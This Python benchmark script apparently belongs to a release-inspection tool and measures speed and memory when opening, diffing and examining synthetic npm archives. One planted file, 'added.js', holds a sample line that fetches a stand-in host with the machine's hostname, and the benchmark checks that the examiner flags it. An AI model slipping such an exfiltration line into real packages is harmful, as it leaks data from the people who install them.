"""Releases opened, compared and examined: megabytes in a second of processor time, and the peak of memory.

    python -m benchmarks.releases             # makes a release of 100 MB and its successor, measures, verifies, prints
    python -m benchmarks.releases OLD NEW     # measures these two archives

Each step runs in a process of its own, from empty memory. Of the made pair three things are held to limits, and the
run fails (exit status 1) where one is missed: 20 MB/s over bytes that are kept, a peak below 250 MB, and the added file
found.
"""

from __future__ import annotations

import io
import json
import random
import subprocess
import sys
import tarfile
import tempfile
from pathlib import Path

FILES = 80
FILE = 1_000_000
LARGE = 20_000_000
LEAST = 20.0
MOST = 250.0

_STEPS = {
    "open": (
        "with open_release(new) as files:\n"
        "    size = sum(one.size for one in files.members.values())\n"
        "    told = len(files.members)\n"
    ),
    "difference": (
        "with open_release(old) as one, open_release(new) as two:\n"
        "    begin = time.process_time()\n"
        "    told = len(difference(one, two))\n"
        "    size = sum(member.size for member in two.members.values())\n"
    ),
    "examine": (
        "with open_release(old) as one, open_release(new) as two:\n"
        "    begin = time.process_time()\n"
        "    result = examine(release(two), release(one), Remembered(), clock=time.monotonic)\n"
        "    size = result.examined.bytes\n"
        "    told = [fact.path for fact in result.facts if fact.kind == 'difference.file' and fact.delta == 'added']\n"
    ),
    "examine by itself": (
        "with open_release(new) as two:\n"
        "    begin = time.process_time()\n"
        "    result = examine(release(two), None, Remembered(), clock=time.monotonic)\n"
        "    size = result.examined.read_bytes\n"
        "    told = len(result.facts)\n"
    ),
}
_PROGRAM = """
import json, resource, sys, time
from pratique.model.release import RegistryRecord, Release
from pratique.releases.difference import difference
from pratique.releases.examine import Remembered, examine
from pratique.targets.release import open_release
old, new = sys.argv[1:3]

def release(files):
    world = "PyPI" if files.form in ("wheel", "sdist") else "npm"
    return Release("pkg:npm/a@1", world, "a", "1", files, RegistryRecord(), "file")

begin = time.process_time()
{step}
seconds = time.process_time() - begin
peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
print(json.dumps({{"seconds": seconds, "megabytes": size / 1e6, "peak": peak, "told": told}}))
"""


def _text(chosen: random.Random, size: int) -> bytes:
    """Statements of JavaScript that import and compute, about as dense as ordinary code."""
    parts: list[str] = []
    held = 0
    while held < size:
        number = chosen.randrange(10**6)
        line = (
            f"function part{number}(value) {{\n  return value.map((item) => item.size + {number}).filter(Boolean);\n}}"
        )
        parts.append(line)
        held += len(line) + 1
    return "\n".join(parts).encode()


def make(folder: Path) -> tuple[Path, Path]:
    """A release of 100 MB, one file of it 20 MB in a single line, and its successor with one file more."""
    paths = folder / "old.tgz", folder / "new.tgz"
    for path, added in zip(paths, (False, True), strict=True):
        chosen = random.Random(1)
        with tarfile.open(path, "w:gz", compresslevel=3) as archive:

            def add(name: str, content: bytes, archive: tarfile.TarFile = archive) -> None:
                info = tarfile.TarInfo(f"package/{name}")
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))

            add("package.json", b'{"name": "a", "version": "1.0.%d", "main": "f0.js"}' % added)
            for number in range(FILES):
                add(f"f{number}.js", _text(chosen, FILE))
            add("large.js", _text(chosen, LARGE).replace(b"\n", b""))
            if added:
                add("added.js", b"const os = require('os')\nfetch('https://a.example', {body: os.hostname()})\n")
    return paths


def measure(step: str, old: Path, new: Path) -> dict[str, object]:
    """One step in a process of its own."""
    program = _PROGRAM.format(step=_STEPS[step])
    done = subprocess.run(
        [sys.executable, "-c", program, str(old), str(new)], capture_output=True, text=True, check=True, timeout=1200
    )
    found: dict[str, object] = json.loads(done.stdout)
    return found


def main(arguments: list[str]) -> int:
    """Measure, print, and say whether the limits hold."""
    if arguments:
        old, new = (Path(one) for one in arguments)
        _table(old, new)
        return 0
    with tempfile.TemporaryDirectory() as folder:
        old, new = make(Path(folder))
        found = _table(old, new, ("open", "difference", "examine"))
    missed = []
    for step, one in found.items():
        speed = float(str(one["megabytes"])) / float(str(one["seconds"]))
        if speed < LEAST:
            missed.append(f"{step}: {speed:.1f} MB/s, less than {LEAST}")
        if float(str(one["peak"])) >= MOST:
            missed.append(f"{step}: a peak of {one['peak']} MB, more than {MOST}")
    if found["examine"]["told"] != ["added.js"]:
        missed.append("the added file was not told")
    for line in missed:
        print("MISSED", line)
    return 1 if missed else 0


def _table(old: Path, new: Path, steps: tuple[str, ...] = tuple(_STEPS)) -> dict[str, dict[str, object]]:
    print("| step | MB | CPU s | MB/s | peak MB |\n|---|---|---|---|---|")
    found = {}
    for step in steps:
        one = found[step] = measure(step, old, new)
        size, seconds = float(str(one["megabytes"])), float(str(one["seconds"]))
        print(
            f"| {step} | {size:.1f} | {seconds:.2f} | {size / max(seconds, 1e-6):.1f} | {float(str(one['peak'])):.0f} |"
        )
    return found


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
